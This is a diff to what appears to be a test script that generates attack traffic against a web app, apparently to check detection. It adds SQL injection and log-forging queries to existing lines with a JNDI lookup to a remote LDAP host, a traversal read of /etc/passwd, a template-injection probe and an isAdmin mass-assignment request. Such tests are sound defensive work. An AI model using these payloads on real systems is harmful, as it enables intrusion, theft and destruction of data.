@@ -14,6 +14,9 @@ def prepare(run):
     s += [request("POST", "/comments", "203.0.113.7", body={"comment": {"text": f"{JUNK} ${{jndi:ldap://192.0.2.1/a}}"}})]
     s += [request("GET", "/file", "203.0.113.8", query={"name": f"../../../etc/passwd?{JUNK}"}, status=400)]
     s += [request("POST", "/comments", "203.0.113.9", body={"comment": f"{JUNK}{{{{7*7}}}}"})]
+    s += [request("GET", "/search", f"203.0.113.{20 + i}", query={"q": f"{JUNK}{q}"}, status=400) for i, q in enumerate(
+        ("1 union select password from users", "1; drop table users", "admin' --"))]
+    s += [request("GET", "/search", "203.0.113.23", query={"q": f"{JUNK}\n2026-11-23T07:15:01Z INFO login of admin succeeded"})]
     s += [request("POST", "/profile", "203.0.113.10", body={"name": "x", "city": "y"}, gap=30) for _ in range(55)]
     s += [request("POST", "/profile", "203.0.113.11", body={"name": "x", "isAdmin": True}, gap=300)]
     run.script = s
